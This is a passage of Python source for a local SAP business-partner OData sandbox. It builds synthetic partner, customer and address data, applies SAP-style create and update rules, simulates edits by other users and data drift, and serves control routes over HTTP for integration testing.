            time.perf_counter() - started,
        )
        if changes_on_start:
            self.mutate(changes_on_start, rng_seed=time.time_ns())

    # -- public helpers ------------------------------------------------------------------------

    @property
    def partner_count(self) -> int:
        """Number of business partners currently served."""
        return len(self._bp.rows)

    def partner_ids(self) -> list[str]:
        """All BusinessPartner ids in key order."""
        return [row[0] for row in self._bp.rows]

    def get_partner(self, partner_id: str) -> dict[str, Any]:
        """One partner's ``A_BusinessPartner`` properties in wire format (for tests and demos)."""
        index = self._bp.find((partner_id,))
        if index is None:
            raise KeyError(partner_id)
        return dict(zip(BP_TYPE.names, self._bp.rows[index], strict=True))

    def set_raw_field(self, partner_id: str, name: str, value: Any) -> None:
        """Overwrite one ``A_BusinessPartner`` property with any JSON value, unvalidated.

        A drill for schema drift and bad data (a date in the wrong format, a number where a
        string belongs). Change stamps are left alone, so the raw value is exactly what is served.
        """
        if name not in BP_TYPE.prop or name in BP_TYPE.keys:
            raise ValueError(f"{name!r} is not a non-key property of {BP_TYPE.name}")
        dumps(value)  # must be serialisable, or every later page would fail
        with self.lock:
            index = self._bp.find((partner_id,))
            if index is None:
                raise KeyError(partner_id)
            row = list(self._bp.rows[index])
            row[_BPX[name]] = value
            self._bp.replace(index, tuple(row))
            self.data_changed()

    def etag_of(self, partner_id: str) -> str:
        """Current ETag (as sent in ``__metadata.etag`` and the ``ETag`` header) of a partner."""
        return etag_header(self.get_partner(partner_id)["ETag"])

    # -- data building -------------------------------------------------------------------------

    def _build(self, partners: int) -> None:
        # Generation allocates millions of small objects that all survive; pausing the cyclic
        # collector meanwhile halves the build time.
        with gc_paused():
            self._append_partners(0, partners, stamp=None)
        # The rows were allocated while the collector was paused and all sit in generation 0.
        # Collecting it now untracks the atom-only tuples, once, instead of during the first
        # request (and keeps later full collections cheap).
        gc.collect(0)

    def _append_partners(self, start: int, count: int, stamp: datetime | None) -> list[str]:
        added: list[str] = []
        end = start + count
        for block_no in range(start // _BLOCK, (end - 1) // _BLOCK + 1 if count else 0):
            base = block_no * _BLOCK
            chosen = [p for offset, p in enumerate(self._generator.block(block_no)) if start <= base + offset < end]
            if stamp is not None:
                for partner in chosen:
                    partner.thaw()
                    self._stamp_new(partner, stamp)
                    partner.freeze()
            added.extend(self._store(chosen))
        for table in self.tables.values():
            table.invalidate()
        self._refresh_duplicate_gstins()
        self.data_changed()
        return added

    def _store(self, partners: Sequence[_Partner]) -> list[str]:
        """Append generated partners to every table and wire up the navigation links."""
        tables = self.tables
        bp_rows = self._bp.rows
        customer_rows = tables["A_Customer"].rows
        tax_rows = tables["A_BusinessPartnerTaxNumber"].rows
        addr_table = tables["A_BusinessPartnerAddress"]
        addr_rows = addr_table.rows
        email_rows = tables["A_AddressEmailAddress"].rows
        phone_rows = tables["A_AddressPhoneNumber"].rows
        role_rows = tables["A_BusinessPartnerRole"].rows
        area_rows = tables["A_CustomerSalesArea"].rows
        to_customer = self._bp.links["to_Customer"]
        to_role = self._bp.links["to_BusinessPartnerRole"]
        to_area = tables["A_Customer"].links["to_CustomerSalesArea"]
        to_tax = self._bp.links["to_BusinessPartnerTax"]
        to_address = self._bp.links["to_BusinessPartnerAddress"]
        to_email = addr_table.links["to_EmailAddress"]
        to_phone = addr_table.links["to_PhoneNumber"]
        to_mobile = addr_table.links["to_MobilePhoneNumber"]
        ids: list[str] = []
        for partner in partners:
            bp_id: str = partner.bp[0]
            ids.append(bp_id)
            bp_rows.append(partner.bp)
            first = len(role_rows)
            valid_from = _dto_of_day(partner.bp[_BPX["CreationDate"]])
            for role in _CUSTOMER_ROLES if partner.customer is not None else _PROSPECT_ROLES:
                role_rows.append(_build_role(bp_id, role, valid_from))
            to_role.append(span(first, len(role_rows)))
            if partner.customer is not None:
                to_customer.append(len(customer_rows))
                customer_rows.append(partner.customer)
                export = partner.customer[_CUX["CustomerAccountGroup"]] == "ZEXP"
                to_area.append(span(len(area_rows), len(area_rows) + 1))
                area_rows.append(
                    _build_sales_area(
                        bp_id,
                        "USD" if export else "INR",
                        _TERMS_BY_CLASS.get(partner.customer[_CUX["CustomerClassification"]] or "", "0001"),
                        "FOB" if export else "EXW",
                        "Nhava Sheva" if export else "Ex works",
                    )
                )
            else:
                to_customer.append(-1)
            first = len(tax_rows)
            tax_rows.extend(partner.taxes)
            to_tax.append(span(first, len(tax_rows)))
            first_address = len(addr_rows)
            for addr, emails, phones, mobiles in partner.addresses:
                addr_rows.append(addr)
                first = len(email_rows)
                email_rows.extend(emails)
                to_email.append(span(first, len(email_rows)))
                first = len(phone_rows)
                phone_rows.extend(phones)
                to_phone.append(span(first, len(phone_rows)))
                first = len(phone_rows)
                phone_rows.extend(mobiles)
                to_mobile.append(span(first, len(phone_rows)))
            to_address.append(span(first_address, len(addr_rows)))
            if partner.dirty is not None:
                self.dirty_ids[bp_id] = partner.dirty
        return ids

    def _stamp_new(self, partner: _Partner, stamp: datetime) -> None:
        """Partners added at run time are created (and last changed) now."""
        day, secs = wire_day(stamp.date().toordinal()), wire_time(_seconds_of_day(stamp))
        bp = partner.bp
        for name, value in (
            ("CreationDate", day),
            ("CreationTime", secs),
            ("LastChangeDate", day),
            ("LastChangeTime", secs),
        ):
            bp[_BPX[name]] = value
        bp[_BPX["CreatedByUser"]] = bp[_BPX["LastChangedByUser"]] = self.username
        bp[_ETAG_AT] = make_etag(stamp, 0)
        if partner.customer is not None:
            partner.customer[_CUX["CreationDate"]] = day
            partner.customer[_CUX["CreatedByUser"]] = self.username
        for addr, *_ in partner.addresses:
            addr[_ADX["ValidityStartDate"]] = wire_dto_day(stamp.date().toordinal())

    def _refresh_duplicate_gstins(self) -> None:
        """Label ``duplicate_gstin`` from the data actually served (pairs may span additions)."""
        tax_rows = self.tables["A_BusinessPartnerTaxNumber"].rows
        at_number, at_partner = _TXX["BPTaxNumber"], _TXX["BusinessPartner"]
        owners: dict[str, set[str]] = {}
        for row in tax_rows:
            number = row[at_number]
            if number and len(number) == 15:
                owners.setdefault(number, set()).add(row[at_partner])
        shared = {pid for ids in owners.values() if len(ids) > 1 for pid in ids}
        for pid, reason in list(self.dirty_ids.items()):
            if reason == "duplicate_gstin" and pid not in shared:
                del self.dirty_ids[pid]
        for pid in shared:
            self.dirty_ids.setdefault(pid, "duplicate_gstin")

    # -- changing data -------------------------------------------------------------------------

    def add_partners(self, n: int) -> list[str]:
        """Append ``n`` new partners (deterministic content, created now); returns their ids."""
        if n < 0:
            raise ValueError("n must be >= 0")
        with self.lock:
            added = self._append_partners(len(self._bp.rows), n, stamp=self.now())
            logger.info("SAP sandbox: added %d partners", len(added))
            return added

    def mutate(self, count: int, rng_seed: int | None = None) -> list[str]:
        """Change ``count`` random partners (phone, e-mail, block flag, name fix, address, archive).

        Each changed partner gets ``LastChangeDate``/``LastChangeTime`` = sandbox now and a new
        ETag. ``rng_seed`` makes the choice reproducible; by default it differs per call.
        """
        if count < 0:
            raise ValueError("count must be >= 0")
        rng = random.Random(rng_seed if rng_seed is not None else time.time_ns())
        with self.lock:
            total = len(self._bp.rows)
            picks = rng.sample(range(total), min(count, total))
            stamp = self.now()
            kind_cum = tuple(sum(_MUTATION_WEIGHTS[: i + 1]) for i in range(len(_MUTATION_WEIGHTS)))
            changed = []
            for index in picks:
                kind = _MUTATION_KINDS[bisect_right(kind_cum, rng.random() * kind_cum[-1])]
                self._mutate_one(index, kind, rng, stamp)
                changed.append(self._bp.rows[index][0])
            self.data_changed()
            logger.info("SAP sandbox: changed %d partners at %s", len(changed), stamp.isoformat())
            return changed

    def _mutate_one(self, index: int, kind: str, rng: random.Random, stamp: datetime) -> None:
        tables = self.tables
        bp = list(self._bp.rows[index])
        bp_id = bp[0]
        addresses = self._bp.links["to_BusinessPartnerAddress"][index]
        cust_index = self._bp.links["to_Customer"][index]
        customer = list(tables["A_Customer"].rows[cust_index]) if cust_index >= 0 else None
        if kind in ("phone", "email", "address") and not addresses:
            kind = "block"
        r = rng.random
        if kind == "phone":
            self._new_mobile(addresses[0], r)
        elif kind == "email":
            self._new_email(addresses[0], bp, r)
        elif kind == "address":
            addr_table = tables["A_BusinessPartnerAddress"]
            addr = list(addr_table.rows[addresses[0]])
            addr[_ADX["StreetName"]] = _STREETS[int(r() * len(_STREETS))]
            addr[_ADX["HouseNumber"]] = f"{1 + int(r() * 250)}"
            foreign = {code: cities[0][2] for code, cities in _FOREIGN}
            if addr[_ADX["Country"]] not in foreign:
                addr[_ADX["Country"]] = "IN"
            postal = addr[_ADX["PostalCode"]] or ""
            if addr[_ADX["Country"]] in foreign:
                addr[_ADX["PostalCode"]] = foreign[addr[_ADX["Country"]]]
            elif not (len(postal) == 6 and postal.isdigit() and postal[0] != "0"):
                addr[_ADX["PostalCode"]] = f"{400001 + int(r() * 99)}"
            addr_table.replace(addresses[0], tuple(addr))
        elif kind == "block":
            blocked = not bp[_BPX["BusinessPartnerIsBlocked"]]
            bp[_BPX["BusinessPartnerIsBlocked"]] = blocked
            if customer is not None:
                customer[_CUX["OrderIsBlockedForCustomer"]] = "01" if blocked else ""
        elif kind == "archive":
            bp[_BPX["IsMarkedForArchiving"]] = True
            if customer is not None:
                customer[_CUX["DeletionIndicator"]] = True
        else:
            self._fix_name(bp, customer, addresses, r)
        if bp_id in self.dirty_ids and self.dirty_ids[bp_id] in _CURES.get(kind, ()):
            del self.dirty_ids[bp_id]
        if customer is not None:
            tables["A_Customer"].replace(cust_index, tuple(customer))
        self._touch(bp, self.username, stamp)
        self._bp.replace(index, tuple(bp))

    def _fix_name(
        self, bp: list[Any], customer: list[Any] | None, addresses: Sequence[int], r: Callable[[], float]
    ) -> None:
        current = bp[_BPX["BusinessPartnerFullName"]]
        if not current or not current.strip():
            name = f"{_GENERIC[int(r() * len(_GENERIC))]} {_SEGMENTS[0][5][int(r() * len(_SEGMENTS[0][5]))]}"
        elif current != " ".join(current.split()):
            name = " ".join(current.split())
            name = name.title() if name.islower() else name
        elif bp[_BPX["BusinessPartnerCategory"]] == "1":
            bp[_BPX["SearchTerm1"]] = (bp[_BPX["FirstName"]] or current).upper()[:20]
            return
        elif current.endswith(" Pvt Ltd"):
            name = current[: -len(" Pvt Ltd")] + " Ltd"
        else:
            name = (current + " Pvt Ltd")[:81]
        addr_table = self.tables["A_BusinessPartnerAddress"]
        addr_rows = [list(addr_table.rows[a]) for a in addresses]
        _rename(bp, customer, addr_rows, name)
        for a, row in zip(addresses, addr_rows, strict=True):
            addr_table.replace(a, tuple(row))

    def _new_mobile(self, address_index: int, r: Callable[[], float]) -> None:
        addr_table = self.tables["A_BusinessPartnerAddress"]
        phone_table = self.tables["A_AddressPhoneNumber"]
        addr = addr_table.rows[address_index]
        dial, prefix, digits = _dialling(addr[_ADX["Country"]])
        country = addr[_ADX["Country"]] if dial != "+91" else "IN"
        mobiles = addr_table.links["to_MobilePhoneNumber"][address_index]
        if mobiles:
            ordinal = int(phone_table.rows[mobiles[0]][_PHX["OrdinalNumber"]])
            fresh = _mobile_row(addr[_ADX["AddressID"]], ordinal, country, dial, prefix, digits, r)
            phone_table.replace(mobiles[0], fresh)
        else:
            used = [
                int(phone_table.rows[p][_PHX["OrdinalNumber"]])
                for p in addr_table.links["to_PhoneNumber"][address_index]
            ]
            fresh = _mobile_row(addr[_ADX["AddressID"]], max(used, default=0) + 1, country, dial, prefix, digits, r)
            addr_table.links["to_MobilePhoneNumber"][address_index] = (phone_table.append(fresh),)

    def _new_email(self, address_index: int, bp: list[Any], r: Callable[[], float]) -> None:
        addr_table = self.tables["A_BusinessPartnerAddress"]
        email_table = self.tables["A_AddressEmailAddress"]
        addr = addr_table.rows[address_index]
        stem = bp[_BPX["SearchTerm1"]] or bp[_BPX["BusinessPartnerFullName"]] or "office"
        mail = f"{_EMAIL_ROLES[int(r() * 4)]}.{_slug(stem, 16)}@{_FREE_MAIL[int(r() * len(_FREE_MAIL))]}"
        emails = addr_table.links["to_EmailAddress"][address_index]
        if emails:
            row = list(email_table.rows[emails[0]])
            row[_EMX["EmailAddress"]] = mail
            row[_EMX["SearchEmailAddress"]] = mail.upper()[:20]
            email_table.replace(emails[0], tuple(row))
        else:
            new = email_table.append(_build_email(addr[_ADX["AddressID"]], "1", True, mail, mail.upper()[:20]))
            addr_table.links["to_EmailAddress"][address_index] = (new,)

    def _touch(self, bp: list[Any], user: str, stamp: datetime) -> None:
        """Stamp a changed partner with the sandbox clock and bump its ETag revision."""
        bp[_BPX["LastChangeDate"]] = wire_day(stamp.date().toordinal())
        bp[_BPX["LastChangeTime"]] = wire_time(_seconds_of_day(stamp))
        bp[_BPX["LastChangedByUser"]] = user[:12]
        bp[_ETAG_AT] = next_etag(bp[_ETAG_AT], stamp)

    # -- write rules (the engine has checked types, ETag and CSRF) -----------------------------

    def on_update(self, table: Table, index: int, row: list[Any], changes: Mapping[str, Any], user: str) -> None:
        """SAP's update rules: a blocked partner refuses changes; a change stamps its partner.

        A partner update re-derives the names it touches. An address, e-mail or phone update
        is checked like a create's and moves its partner's ``LastChangeDate``/``Time`` and ETag,
        so delta syncs see it.
        """
        set_name = table.etype.set_name
        now = self.now()
        if set_name == BP_TYPE.set_name:
            # Setting or lifting the block itself is allowed; anything else waits for the block to go.
            if "BusinessPartnerIsBlocked" not in changes and row[_BPX["BusinessPartnerIsBlocked"]]:
                raise _blocked_error(row[0])
            problems = _name_problems(row[_BPX["BusinessPartnerCategory"]], lambda name: row[_BPX[name]], "")
            if problems:
                raise _refusal(problems)
            if _NAME_FIELDS & changes.keys():
                self._derive_names(index, row)
            self._touch(row, user, now)
            return
        bp_index = self._owner_index(set_name, row)
        bp = list(self._bp.rows[bp_index])
        if bp[_BPX["BusinessPartnerIsBlocked"]]:
            raise _blocked_error(bp[0])
        if set_name == ADDRESS_TYPE.set_name:
            problems = _address_problems(lambda name: row[_ADX[name]], "")
        elif set_name == EMAIL_TYPE.set_name:
            problems = _email_problems(row[_EMX["EmailAddress"]], "EmailAddress")
            row[_EMX["SearchEmailAddress"]] = (row[_EMX["EmailAddress"]] or "").upper()[:20]
        else:
            problems = _phone_problems(row[_PHX["PhoneNumber"]], "PhoneNumber")
            row[_PHX["InternationalPhoneNumber"]] = _international(
                row[_PHX["PhoneNumber"]], row[_PHX["DestinationLocationCountry"]]
            )
        if problems:
            raise _refusal(problems)
        self._touch(bp, user, now)
        self._bp.replace(bp_index, tuple(bp))

    def _owner_index(self, set_name: str, row: Sequence[Any]) -> int:
        """Row index of the partner that owns an address, e-mail or phone row."""
        if set_name == ADDRESS_TYPE.set_name:
            partner = row[_ADX["BusinessPartner"]]
        else:
            addresses = self.tables[ADDRESS_TYPE.set_name].rows
            if len(self._address_owner) != len(addresses):
                at_id, at_bp = _ADX["AddressID"], _ADX["BusinessPartner"]
                self._address_owner = {a[at_id]: a[at_bp] for a in addresses}
            partner = self._address_owner.get(row[0], "")
        index = self._bp.find((partner,))
        if index is None:
            raise KeyError(partner)
        return index

    def on_create(self, entity: NewEntity, user: str) -> None:
        """A deep insert of a business partner, checked and numbered as S/4HANA does.

        Refusals (all problems at once, in ``errordetails``): a missing or unknown category, the
        name the category needs, a given partner number (internal numbering), unknown or doubled
        roles, customer or sales-area data without the customer roles, an address without a
        valid country (or an Indian PIN code that is not 6 digits), malformed e-mails and phone
        numbers, a GSTIN (``BPTaxType`` ``IN3``) that is malformed or fails its check character.
        ``BusinessPartnerIDByExtSystem`` is not checked for uniqueness: SAP does not either.
        """
        now = self.now()
        values = entity.values
        problems: list[tuple[str, str, str]] = []
        category = entity.get("BusinessPartnerCategory")
        if category not in ("1", "2", "3"):
            text = "Enter a business partner category" if not category else f"Category '{category}' does not exist"
            problems.append((_CODE_CATEGORY, f"{text} (1 person, 2 organization, 3 group)", "BusinessPartnerCategory"))
        else:
            problems += _name_problems(category, entity.get, "")
        if entity.get("BusinessPartner"):
            problems.append(
                (_CODE_NUMBER, "External numbers are not allowed: SAP assigns the partner number", "BusinessPartner")
            )
        roles = [role.get("BusinessPartnerRole") for role in entity.kids("to_BusinessPartnerRole")]
        for n, role in enumerate(roles):
            where = f"to_BusinessPartnerRole[{n}]/BusinessPartnerRole"
            if role not in _KNOWN_ROLES:
                problems.append((_CODE_ROLE, f"Business partner role '{role or ''}' does not exist", where))
            elif roles.index(role) != n:
                problems.append((_CODE_ROLE, f"Business partner role '{role}' is given twice", where))
        is_customer = bool(set(roles) & set(_CUSTOMER_ROLES))
        customers = entity.kids("to_Customer")
        if customers and not is_customer:
            problems.append(
                (_CODE_CUSTOMER, "Customer data needs the business partner role FLCU00 or FLCU01", "to_Customer")
            )
        areas = [area for customer in customers for area in customer.kids("to_CustomerSalesArea")]
        if areas and "FLCU01" not in roles:
            problems.append(
                (
                    _CODE_CUSTOMER,
                    "Sales area data needs the business partner role FLCU01 (customer, sales)",
                    "to_Customer/to_CustomerSalesArea",
                )
            )
        for area in areas:
            for key in ("SalesOrganization", "DistributionChannel", "Division"):
                if not area.get(key):
                    problems.append((_CODE_SALES_AREA, f"Enter the {_words(key)} of the sales area", area.target(key)))
        addresses = entity.kids("to_BusinessPartnerAddress")
        for address in addresses:
            problems += _address_problems(address.get, address.path)
            for email in address.kids("to_EmailAddress"):
                problems += _email_problems(email.get("EmailAddress"), email.target("EmailAddress"))
            for nav, kind in (("to_PhoneNumber", "1"), ("to_MobilePhoneNumber", "3")):
                for phone in address.kids(nav):
                    problems += _phone_problems(phone.get("PhoneNumber"), phone.target("PhoneNumber"))
                    if phone.get("PhoneNumberType") not in ("", kind):
                        text = f"PhoneNumberType must be '{kind}' under {nav}"
                        problems.append((_CODE_PHONE, text, phone.target("PhoneNumberType")))
        gstin = ""
        for tax in entity.kids("to_BusinessPartnerTax"):
            tax_type, number = tax.get("BPTaxType"), tax.get("BPTaxNumber") or ""
            if not tax_type:
                problems.append((_CODE_TAX, "Enter a tax number category", tax.target("BPTaxType")))
            elif tax_type == "IN3":
                if is_valid_gstin(number):
                    gstin = number
                else:
                    text = f"Tax number '{number}' is not valid for category IN3 (GSTIN: 15 characters, check digit)"
                    problems.append((_CODE_TAX, text, tax.target("BPTaxNumber")))
        if problems:
            raise _refusal(problems)

        partner = partner_id(len(self._bp.rows))
        day, secs = wire_day(now.date().toordinal()), wire_time(_seconds_of_day(now))
        person = category == "1"
        country = addresses[0].get("Country") if addresses else ""
        values["BusinessPartner"] = partner
        values["Customer"] = partner if is_customer else ""
        values.setdefault("BusinessPartnerGrouping", "Z003" if person else ("Z001" if country in ("", "IN") else "Z002"))
        values["BusinessPartnerUUID"] = str(uuid.uuid4())
        values["IsNaturalPerson"] = "X" if person else ""
        values.setdefault("Language", "EN")
        for name, value in (("CreationDate", day), ("CreationTime", secs), ("LastChangeDate", day), ("LastChangeTime", secs)):
            values[name] = value
        values["CreatedByUser"] = values["LastChangedByUser"] = user[:12]
        values["ETag"] = make_etag(now, 0)
        full = _full_name(category, entity.get)
        values["BusinessPartnerFullName"] = values["BusinessPartnerName"] = full
        if person:
            values["PersonFullName"] = full[:80]
        for role in entity.kids("to_BusinessPartnerRole"):
            role.values.setdefault("ValidFrom", wire_dto_day(now.date().toordinal()))
            role.values.setdefault("ValidTo", _OPEN_END_DTO)
        for address in addresses:
            self._created_address_id += 1
            address.values["AddressID"] = str(self._created_address_id)
            address.values["AddressUUID"] = str(uuid.uuid4())
            address.values["FullName"] = full[:80]
            address.values.setdefault("ValidityStartDate", wire_dto_day(now.date().toordinal()))
            address.values.setdefault("ValidityEndDate", _OPEN_END_DTO)
            address.values.setdefault("Language", "EN")
            if address.get("Country") == "IN":
                address.values.setdefault("AddressTimeZone", "INDIA")
            _number_entries(address)
        if is_customer:
            if not customers:
                entity.children["to_Customer"] = customers = [NewEntity(self.tables["A_Customer"], {}, path="to_Customer")]
            customer = customers[0].values
            customer["Customer"] = partner
            customer["CreatedByUser"] = user[:12]
            customer["CreationDate"] = day
            customer.setdefault("CustomerAccountGroup", "ZIND" if person else ("ZDLR" if country in ("", "IN") else "ZEXP"))
            customer["CustomerName"] = full[:80]
            customer["BPCustomerName"] = full
            customer["CustomerFullName"] = customer["BPCustomerFullName"] = full[:220]
            customer["NFPartnerIsNaturalPerson"] = "X" if person else ""
            customer["TaxNumber3"] = gstin
        logger.info("SAP sandbox: %s created partner %s", user, partner)

    # -- drills: SAP's own users at work -------------------------------------------------------

    def edit_as_user(
        self,
        partner_id: str,
        changes: Mapping[str, Any] | None = None,
        *,
        address: Mapping[str, Any] | None = None,
        email: str | None = None,
        mobile: str | None = None,
        user: str = "KPATIL",
    ) -> str:
        """A concurrent edit in SAP: someone in SAP changes a partner (a new ETag and change stamp).

        ``changes`` are ``A_BusinessPartner`` properties, ``address`` those of its first address,
        ``email``/``mobile`` replace its first e-mail address / mobile number. Values are checked
        against the declarations like an update's, but a block does not stop SAP's own users.
        Returns the partner's new ETag (as the ``ETag`` header sends it).
        """
        with self.lock:
            index = self._bp.find((partner_id,))
            if index is None:
                raise KeyError(partner_id)
            bp = list(self._bp.rows[index])
            bp_changes = _checked(BP_TYPE, changes or {})
            for name, value in bp_changes.items():
                bp[_BPX[name]] = value
            addresses = self._bp.links["to_BusinessPartnerAddress"][index]
            if (address or email or mobile) and not addresses:
                raise ValueError(f"partner {partner_id} has no address")
            if address:
                self._edit_row(ADDRESS_TYPE.set_name, addresses[0], address)
            if email:
                entries = self.tables[ADDRESS_TYPE.set_name].links["to_EmailAddress"][addresses[0]]
                if not entries:
                    raise ValueError(f"partner {partner_id} has no e-mail address")
                self._edit_row(EMAIL_TYPE.set_name, entries[0], {"EmailAddress": email, "SearchEmailAddress": email.upper()[:20]})
            if mobile:
                entries = self.tables[ADDRESS_TYPE.set_name].links["to_MobilePhoneNumber"][addresses[0]]
                if not entries:
                    raise ValueError(f"partner {partner_id} has no mobile number")
                phone = self.tables[PHONE_TYPE.set_name].rows[entries[0]]
                international = _international(mobile, phone[_PHX["DestinationLocationCountry"]])
                self._edit_row(PHONE_TYPE.set_name, entries[0], {"PhoneNumber": mobile, "InternationalPhoneNumber": international})
            if _NAME_FIELDS & bp_changes.keys():
                self._derive_names(index, bp)
            self._touch(bp, user, self.now())
            self._bp.replace(index, tuple(bp))
            self.data_changed()
            logger.info("SAP sandbox: %s edited partner %s", user, partner_id)
            return etag_header(bp[_ETAG_AT])

    def _edit_row(self, set_name: str, index: int, values: Mapping[str, Any]) -> None:
        table = self.tables[set_name]
        row = list(table.rows[index])
        for name, value in _checked(table.etype, values).items():
            row[table.etype.index[name]] = value
        table.replace(index, tuple(row))

    def _derive_names(self, index: int, bp: list[Any]) -> None:
        """Recompute the derived full names and propagate them to customer and addresses."""
        if bp[_BPX["BusinessPartnerCategory"]] == "1":
            full = " ".join(p for p in (bp[_BPX["FirstName"]], bp[_BPX["LastName"]]) if p)[:81]
            bp[_BPX["PersonFullName"]] = full[:80]
        else:
            parts = (bp[_BPX[f"OrganizationBPName{n}"]] for n in range(1, 5))
            full = " ".join(p for p in parts if p)[:81]
        bp[_BPX["BusinessPartnerFullName"]] = bp[_BPX["BusinessPartnerName"]] = full
        cust_index = self._bp.links["to_Customer"][index]
        if cust_index >= 0:
            table = self.tables["A_Customer"]
            customer = list(table.rows[cust_index])
            customer[_CUX["CustomerName"]] = full[:80]
            customer[_CUX["BPCustomerName"]] = full
            customer[_CUX["BPCustomerFullName"]] = full
            table.replace(cust_index, tuple(customer))
        addr_table = self.tables["A_BusinessPartnerAddress"]
        for a in self._bp.links["to_BusinessPartnerAddress"][index]:
            addr = list(addr_table.rows[a])
            addr[_ADX["FullName"]] = full[:80]
            addr_table.replace(a, tuple(addr))


    # -- control routes ------------------------------------------------------------------------

    def control_routes(self) -> list[str]:
        """SAP-specific control routes (listed by ``GET /_sandbox``)."""
        return [
            "GET /_sandbox/sap/info",
            "GET /_sandbox/sap/dirty",
            'POST /_sandbox/sap/mutate {"count": N, "seed": optional}',
            'POST /_sandbox/sap/add-partners {"count": N}',
            'POST /_sandbox/sap/expire-tokens {"kind": "all" | "oauth" | "csrf"}',
            'POST /_sandbox/sap/clock {"advance_s": seconds}',
            'POST /_sandbox/sap/set-field {"partner": id, "field": name, "value": any JSON}',
            'POST /_sandbox/sap/edit {"partner": id, "changes": {...}, "address": {...}, "email": str, '
            '"mobile": str, "user": name}',
        ]

    def control_get(self, action: str) -> SandboxResponse | None:
        """``GET /_sandbox/sap/dirty``: the deliberately dirty partners and their reasons."""
        if action == "dirty":
            return SandboxResponse.json(200, {"count": len(self.dirty_ids), "dirty": self.dirty_ids})
        return None

    def control_post(self, action: str, body: Mapping[str, Any]) -> SandboxResponse:
        """``mutate``, ``add-partners``, ``set-field`` and ``edit`` (the engine does ``expire-tokens`` and ``clock``)."""
        if action == "mutate":
            seed = body.get("seed")
            changed = self.mutate(_non_negative_int(body.get("count", 1), "count"), None if seed is None else int(seed))
            return SandboxResponse.json(200, {"changed": changed, "count": len(changed)})
        if action == "add-partners":
            added = self.add_partners(_non_negative_int(body.get("count", 1), "count"))
            return SandboxResponse.json(200, {"added": added, "count": len(added)})
        if action == "set-field":
            self.set_raw_field(str(body.get("partner", "")), str(body.get("field", "")), body.get("value"))
            return SandboxResponse.json(200, {"partner": body.get("partner"), "field": body.get("field")})
        if action == "edit":
            changes, address = body.get("changes") or {}, body.get("address") or {}
            email, mobile = body.get("email"), body.get("mobile")
            if not isinstance(changes, dict) or not isinstance(address, dict):
                raise ValueError("changes and address must be JSON objects of property values")
            if not (changes or address or email or mobile):
                raise ValueError("nothing to edit: give changes, address, email or mobile")
            partner = str(body.get("partner", ""))
            etag = self.edit_as_user(
                partner,
                changes,
                address=address,
                email=None if email is None else str(email),
                mobile=None if mobile is None else str(mobile),
                user=str(body.get("user") or "KPATIL"),
            )
            return SandboxResponse.json(200, {"partner": partner, "etag": etag})
        return super().control_post(action, body)

    def info(self) -> dict[str, Any]:
        """What ``GET /_sandbox/sap/info`` shows."""
        return {
            "simulator": self.name,
            "service_root": SERVICE_ROOT,
            "token_path": TOKEN_PATH,
            "partners": self.partner_count,
            "customers": len(self.tables["A_Customer"].rows),
            "seed": self.seed,
            "max_page_size": self.max_page_size,
            "username": self.username,
            "client_id": self.client_id,
            "sap_client": self.sap_client,
            "session_cookie": self.session_cookie,
            "now": self.now().isoformat(),
            "anchor_date": ANCHOR_DATE.isoformat(),
            "dirty": len(self.dirty_ids),
            "data_version": self.data_version,
            "faults": self.faults.switches.active(),
        }


def _dialling(country: str | None) -> tuple[str, str, int]:
    """(dialling code, mobile prefix, mobile digits) for a country; India for unknown codes."""
    for code, cities in _FOREIGN:
        if code == country:
            _city, _region, _postal, dial, prefix, digits = cities[0]
            return dial, prefix, digits
    return "+91", "", 10


def _dto_of_day(wire_datetime: Any) -> str | None:
    """Edm.DateTimeOffset at midnight of an Edm.DateTime day (``None`` for a missing or raw value)."""
    if not isinstance(wire_datetime, str) or not wire_datetime.startswith("/Date("):
        return None
    return wire_datetime[:-2] + "+0000)/"


def _non_negative_int(value: Any, name: str) -> int:
    if isinstance(value, bool) or not isinstance(value, int) or value < 0:
        raise ValueError(f"{name} must be a non-negative integer")
    return value


def _seconds_of_day(stamp: datetime) -> int:
    return stamp.hour * 3600 + stamp.minute * 60 + stamp.second


# ============================================================================================
# Serving from the command line
# ============================================================================================


def build_sandbox(
    partners: int = 10_000,
    seed: int = 42,
    max_page_size: int = 1000,
    changes_on_start: int = 0,
    faults: Mapping[str, Any] | None = None,
    **options: Any,
) -> SapSandbox:
    """A sandbox with faults from ``$DRYMIX_SANDBOX_FAULTS`` (JSON) overlaid by ``faults``."""
    return SapSandbox(
        seed=seed,
        partners=partners,
        max_page_size=max_page_size,
        changes_on_start=changes_on_start,
        faults=faults_with_env(faults),
        **options,
    )


def build_sap_system(
    partners: int = 10_000,
    seed: int = 42,
    max_page_size: int = 1000,
    changes_on_start: int = 0,
    faults: Mapping[str, Any] | None = None,
    *,
    orders: int = 5_000,
    **options: Any,
) -> ODataSystem:
    """One SAP system: ``API_BUSINESS_PARTNER`` and ``API_SALES_ORDER_SRV`` on one host.

    The services share logon, tokens, CSRF sessions, clock and faults (see :class:`ODataSystem`);
    the sales orders' sold-to parties are this system's customers. ``system.services`` is
    ``(SapSandbox, SalesOrderSandbox)``; control routes are ``/_sandbox/sap/...`` and
    ``/_sandbox/sales-orders/...``.
    """
    from sandbox.sales_orders import SalesOrderSandbox  # imports this module

    partner_sandbox = build_sandbox(partners, seed, max_page_size, changes_on_start, faults, **options)
    at_customer = _BPX["Customer"]
    customers = [row[at_customer] for row in partner_sandbox.tables["A_BusinessPartner"].rows if row[at_customer]]
    order_sandbox = SalesOrderSandbox(
        orders=orders,
        seed=seed,
        max_page_size=max_page_size,
        sold_to_parties=customers,
        sap_client=partner_sandbox.sap_client,
        system_id=options.get("system_id", "S4H"),
    )
    return ODataSystem((partner_sandbox, order_sandbox), name="sap")


def serve_sap(
    host: str = "127.0.0.1",
    port: int = 8401,
    partners: int = 10_000,
    seed: int = 42,
    max_page_size: int = 1000,
    changes_on_start: int = 0,
    faults: dict[str, Any] | None = None,
    *,
    orders: int = 5_000,
    log_level: str = "info",
    **options: Any,
) -> None:
    """Serve the SAP system (business partners and sales orders) over HTTP until interrupted (``drymix sandbox sap``)."""
    system = build_sap_system(partners, seed, max_page_size, changes_on_start, faults, orders=orders, **options)
    sandbox = system.primary
    shown = f"[{host}]" if ":" in host else host
    roots = "\n".join(f"  http://{shown}:{port}{service.service_root}" for service in system.services)
    print(
        f"SAP sandbox ({partners} partners, {orders} sales orders, seed {seed}) on\n{roots}\n"
        f"  Basic user {sandbox.username}; OAuth client {sandbox.client_id} at {TOKEN_PATH}; "
        "secrets: see docs/sandbox-sap.md\n"
        f"  control: http://{shown}:{port}/_sandbox  faults: {sandbox.faults.switches.active() or 'none'}",
